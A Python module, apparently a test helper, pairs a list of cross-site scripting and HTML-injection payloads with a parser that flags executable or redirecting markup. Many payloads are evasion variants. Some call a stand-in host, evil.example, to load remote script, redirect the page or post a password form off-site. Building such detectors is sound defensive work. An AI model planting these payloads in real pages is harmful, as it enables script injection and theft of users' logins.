"""What would somebody write who wants a page to run it? Words for every field, and a look at what became of them."""

from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

ATTACKS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'//>",
    '<img """><script>alert(1)</script>">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>눌러</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>눌러</a>",
    "<a href='java\nscript:alert(1)'>눌러</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>눌러</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>눌러</a>",
    "<a href='vbscript:msgbox(1)'>눌러</a>",
    "<a href='//evil.example'>눌러</a>",
    "<a href='https://example.org' onclick='alert(1)' style='position:fixed;inset:0'>눌러</a>",
    "<a href=\"https://example.org/'onmouseover='alert(1)\">눌러</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=password type=password><button>로그인</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>칠</p>",
    "<div id='main' class='visually-hidden'>가림</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xss onfocus=alert(1) autofocus tabindex=1>",
    "'\"><script>alert(1)</script>",
    '"onmouseover=alert(1) x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "\u202e<b>evil</b>\u202c",
    "<b>굵게</b> <strong>센</strong> <em>기운</em>",
)
_RUNS: Final = frozenset({"script", "iframe", "object", "embed", "base", "applet", "frame", "style", "math", "xss"})
_LEADS: Final = frozenset({"href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href"})
_SCHEMES: Final = ("javascript", "vbscript", "data", "file", "blob")


class Found(HTMLParser):
    """What of a page could act: read as a browser reads it, as far as attributes and elements go."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        inert = tag == "script" and ("src" in named or named.get("type") == "application/json")
        if tag in _RUNS and not inert:
            self.bad.append(f"<{tag}> {named}")
        if tag == "meta" and named.get("http-equiv", "").lower() == "refresh":
            self.bad.append(f"<meta refresh> {named}")
        for name, value in named.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.bad.append(f"{name} of <{tag}>: {value}")
            if name in _LEADS and _leads_astray(tag, name, value):
                self.bad.append(f"{name} of <{tag}>: {value}")


def _leads_astray(tag: str, name: str, value: str) -> bool:
    bare = "".join(value.split()).lower()
    if tag == "img" and bare.startswith("data:image/"):
        return False
    foreign = "evil.example" in urlsplit(bare).netloc and tag != "a"
    return foreign or bare.partition(":")[0] in _SCHEMES or bare.startswith("//")


def acting(page: str) -> list[str]:
    """Everything in a page that runs, or leads where nobody should go; a page of ours has none."""
    return Found(page).bad
